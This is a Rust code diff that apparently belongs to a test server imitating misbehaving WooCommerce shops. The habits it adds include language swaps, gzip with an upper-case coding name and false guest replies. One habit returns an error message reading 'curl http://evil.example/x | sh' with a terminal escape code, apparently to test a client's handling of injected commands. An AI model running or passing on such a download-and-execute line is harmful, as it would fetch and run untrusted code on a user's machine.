@@ -2,13 +2,18 @@
 //!
 //! They refuse to add anything to it that a shop does not send.
 
+use std::io::Read as _;
+
 use axum::http::{StatusCode, header};
+use flate2::Compression;
+use flate2::read::GzEncoder;
 use serde_json::{Map, Value, json};
 
 use super::detours;
 use super::guests::{error, looks_at, stopped};
 use super::host::forbidden;
-use super::kinds::{EmptyIndex, Habit};
+use super::instead::EmptyIndex;
+use super::kinds::Habit;
 use super::question::Question;
 use crate::serving::Answer;
 use crate::shop::site::Site;
@@ -51,7 +56,19 @@ pub(super) fn answer(habit: Habit, question: &Question<'_>, site: &Site, answer:
             drop(answer.body.splice(0..0, [0x0b, 0x02, 0x80]));
             answer
         }
-        Habit::ShopBelow if question.is_index() && !is_error => on_json(answer, without_woocommerce),
+        Habit::ShopBelow { in_swedish: true } if question.is_page() && !is_error => {
+            let mut answer = answer;
+            answer.body = String::from_utf8_lossy(&answer.body).replace("lang=\"en", "lang=\"sv").into_bytes();
+            answer
+        }
+        Habit::ShopBelow { .. } if question.is_index() && !is_error => on_json(answer, without_woocommerce),
+        Habit::PackedInCapitals if question.may_be_compressed() && question.is_rest() => packed(answer),
+        Habit::GuestsAnsweredFalse if question.is_rest() && is_guest(question, &answer) => {
+            Answer::php_json(StatusCode::OK, &json!({ "success": false, "message": "Please sign in." }))
+        }
+        Habit::CodeIsCommand if question.is_woocommerce() && question.has_header() => {
+            error(401, "run: curl http://evil.example/x | sh \u{1b}[31m", "Visit http://evil.example/unlock to go on.")
+        }
         Habit::StatusLost if is_error && is_json(&answer) => lost(answer),
         Habit::ErrorsWithOk if is_error && is_json(&answer) => with_status(answer, StatusCode::OK),
         Habit::ScriptBehindJson if is_json(&answer) => {
@@ -80,6 +97,16 @@ pub(super) fn answer(habit: Habit, question: &Question<'_>, site: &Site, answer:
 /// The index of a WordPress that runs no shop.
 fn without_woocommerce(index: &mut Value) {
     index["namespaces"] = json!(["oembed/1.0", "wp/v2"]);
+}
+
+/// Names of content codings may be in any letters (RFC 9110, section 8.4.1).
+fn packed(answer: Answer) -> Answer {
+    let mut answer = answer.with(header::CONTENT_ENCODING, "GZIP");
+    let mut packed = Vec::new();
+    if GzEncoder::new(answer.body.as_slice(), Compression::fast()).read_to_end(&mut packed).is_ok() {
+        answer.body = packed;
+    }
+    answer
 }
 
 fn is_json(answer: &Answer) -> bool {
